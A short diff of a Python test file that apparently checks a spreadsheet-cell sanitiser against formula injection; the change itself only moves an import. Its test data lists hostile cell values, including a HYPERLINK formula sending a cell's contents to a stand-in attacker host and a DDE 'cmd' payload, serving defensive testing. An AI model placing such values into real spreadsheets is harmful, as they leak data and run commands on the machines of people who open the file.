@@ -11,8 +11,8 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from ingest.audit import write_audit
+from ingest.cells import FORMULA_TRIGGERS, safe_cell
 from ingest.reports.catalog import CATALOG_FILE, write_catalog
-from ingest.reports.cells import FORMULA_TRIGGERS, safe_cell
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 HOSTILE_VALUES = [HOSTILE, "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)", "\t=1", " =1+1", "＝1"]
